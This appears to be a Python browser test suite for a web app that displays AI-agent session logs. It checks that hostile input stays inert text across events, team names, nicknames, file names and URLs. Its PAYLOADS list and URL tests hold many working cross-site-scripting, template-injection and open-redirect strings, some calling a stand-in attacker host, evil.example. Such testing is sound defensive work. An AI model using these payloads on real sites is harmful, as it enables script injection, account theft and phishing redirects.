"""Hostile text is the normal case: nothing of it may run, load or leave the page.

PageCase looks after each test: no dialog, no report of the Content-Security-Policy, no
script error, no request to another host.
"""

import tempfile
from pathlib import Path

from client import new_event, new_session
from page import PageCase, call

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "\"><script src=https://evil.example/x.js></script>",
    "' autofocus onfocus=alert(1) x='",
    "\" onmouseover=alert(1) style=\"position:fixed;inset:0",
    "</textarea></title></style><script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe><object data=javascript:alert(1)></object>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button autofocus>Sign in</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<details open ontoggle=alert(1)><video src=https://evil.example/v.mp4 onerror=alert(1)>",
    "[link](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>",
    "![pixel](https://evil.example/pixel.png) ![x](x\"onerror=\"alert(1))",
    "```html\n<script>alert(1)</script>\n``` `<img src=x onerror=alert(1)>`",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07 \x1b[31mred",
    "\u202egnp.exe\u202c <b onclick=alert(1)>\ufeff\u2028alert(1)",
    "<a href=javascript:alert(1) id=main name=body data-do=delete data-copy=x data-whole=0>click</a>",
    "<p id=e-0 class=\"event prompt\">forged</p><template><script>alert(1)</script></template>",
]
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def events_with(payload):
    """An event of every kind that shows text, with the payload in every place that takes one."""
    tag = {"model": payload, "tool": payload, "meta": payload}
    yield new_event("UserMessage", payload)
    yield new_event("AgentMessage", payload, attributes=tag)
    yield new_event("Thinking", payload + "\n\n" + payload)
    yield new_event("SystemMessage", payload, attributes=tag)
    yield new_event("FileRead", payload, data={"path": payload}, attributes=tag)
    yield new_event("FileEdit", "", data={"path": payload, "diff": f"--- a/{payload}\n+++ b/{payload}\n@@ -1 +1 @@ {payload}\n-{payload}\n+{payload}"})
    yield new_event("ShellCommand", payload, data={"command": payload, "exit_code": 1})
    yield new_event("ToolResult", payload, data={"name": payload, "is_error": True})
    yield new_event("WebFetch", "", data={"url": payload})
    yield new_event("WebFetch", "", data={"url": "javascript:alert(1)//" + payload})
    yield new_event("ToolCall", "", data={"name": payload}, content={"blocks": blocks_with(payload)})
    yield new_event("TaskStart", "", data={"title": payload}, task_id=payload)
    yield new_event("AgentMessage", payload, task_id=payload)
    yield new_event("TaskEnd", "", data={"summary": payload * 3}, task_id=payload)
    yield new_event("Custom", payload, data={"kind": payload})


def blocks_with(payload):
    """A block of every kind."""
    return [
        {"type": "Text", "text": payload}, {"type": "Code", "code": payload, "language": payload},
        {"type": "Json", "data": {payload: [payload]}}, {"type": "Json", "data": {"todos": [{"content": payload, "status": payload}]}},
        {"type": "File", "path": payload, "content": payload},
        {"type": "Image", "url": payload, "mime": "image/png", "alt": payload},
        {"type": "Image", "url": "https://evil.example/pixel.png", "mime": "image/png"},
        {"type": "Image", "url": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+", "mime": "image/svg+xml"},
        {"type": "Image", "url": f"data:image/png;base64,{PIXEL}", "mime": "image/png", "alt": payload},
        {"type": "Video", "url": "javascript:alert(1)", "mime": payload}, {"type": "Audio", "url": payload, "mime": payload},
        {"type": "Reference", "uri": "javascript:alert(1)", "media_type": payload},
    ]


class HostileText(PageCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        ada = call(cls.address, "POST", "/api/register", {"nickname": "ada"})
        cls.key, cls.team = ada["api_key"], ada["team_id"]

    def upload(self, payload):
        events = list(events_with(payload))
        session = new_session(events=events, tool=payload, title=payload, description=payload, tags=[payload],
                              attributes={"git_branch": payload, "project": payload, "cwd": payload,
                                          "unknown_types": {payload: 3}, "redactions": {payload: 2}, "bad_lines": 1})
        session["agent"].update(model=payload, provider=payload, tool_version=payload)
        return call(self.address, "POST", "/api/sessions", {"session": session, "team_id": self.team}, key=self.key)["id"]

    def open_all(self):
        """Unfold whatever can be unfolded."""
        for _ in range(4):
            self.run_js("for (const details of document.querySelectorAll('details:not([open])')) details.open = true;"
                        "for (const button of document.querySelectorAll('button[data-more]')) button.click();")

    def test_in_every_place_of_a_session_it_stays_text(self):
        self.sign_in(self.key)
        for payload in PAYLOADS:
            with self.subTest(payload):
                self.go(f"/session/{self.upload(payload)}?view=everything")
                self.see(".reader .over")
                self.open_all()
                made = self.run_js("""return [...document.querySelectorAll(
                    'main :is(script, style, iframe, object, embed, link, meta, base, form:not(.find > form), svg, math, video, audio, textarea, [onerror], [onload], [onclick], [style], [srcdoc])')]
                    .map(element => element.outerHTML)""")
                self.assertEqual(made, [])
                self.assertEqual(self.run_js("return [...document.querySelectorAll('main a[href]')].map(a => a.href)"
                                             ".filter(href => !/^(https?|mailto):/.test(href))"), [])
                self.assertTrue(all(src.startswith("data:image/png;") for src in self.run_js(
                    "return [...document.images].map(image => image.getAttribute('src'))")))
                self.assertEqual(len(self.all("#e-0")), 1)
                self.note_problems()
                self.assertEqual(self.problems, [])

    def test_in_the_list_it_stays_text(self):
        for payload in PAYLOADS:
            self.upload(payload)
        self.sign_in(self.key)
        self.until(lambda: len(self.all(".sessions tbody tr.row")) >= len(PAYLOADS), "all rows")
        self.assertEqual(self.all(".sessions :is(script, img, iframe, svg, style, form)"), [])

    def test_in_names_of_people_and_teams_it_stays_text(self):
        self.sign_in(self.key)
        for number, payload in enumerate(PAYLOADS):
            name = "".join(char for char in payload if char.isprintable())
            call(self.address, "POST", "/api/register", {"nickname": name[:60] + str(number)})
            team = call(self.address, "POST", "/api/teams", {"name": name, "description": payload}, key=self.key)["id"]
            call(self.address, "POST", f"/api/teams/{team}/members", {"nickname": name[:60] + str(number)}, key=self.key)
        self.go("/teams")
        self.until(lambda: len(self.all("ul.lines li")) >= len(PAYLOADS), "all teams")
        self.go(f"/teams/{team}")
        self.see("tr[data-member] button[data-remove]")
        self.click("tr[data-member]:last-child button[data-remove]")
        self.see("dialog")
        self.go("/upload")
        self.see("select[name=team]")

    def test_in_a_nickname_of_one_s_own_it_stays_text(self):
        self.sign_in(self.new_person(PAYLOADS[1]))
        self.see("nav.me a", PAYLOADS[1])
        self.go("/settings")
        self.fill("[data-form=key]", name=PAYLOADS[6], scope="read")
        self.see(".once")
        self.go("/settings")
        self.click("button[data-revoke]")
        self.see("dialog h2")

    def test_in_the_name_of_a_file_it_stays_text(self):
        self.sign_in(self.key)
        self.go("/upload")
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "<img src=x onerror=alert(1)>.jsonl"
            path.write_text("<script>alert(1)</script>")
            self.one("input[type=file]").send_keys(str(path))
            self.see(".files .error")

    def test_in_the_address_it_stays_text(self):
        self.sign_in(self.key)
        for path in ("/?q=<img src=x onerror=alert(1)>&project=\"><script>alert(1)</script>&user=<svg onload=alert(1)>",
                     "/session/%3Cimg%20src=x%20onerror=alert(1)%3E", "/teams/%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/session/x#e=\"><img src=x onerror=alert(1)>",
                     "/login?next=javascript:alert(1)", "/login?next=//evil.example", "/login?next=/\\evil.example", "/#invite=<script>alert(1)</script>"):
            self.go(path)
            self.drawn()
            self.assertTrue(self.driver.current_url.startswith(self.address + "/"), path)
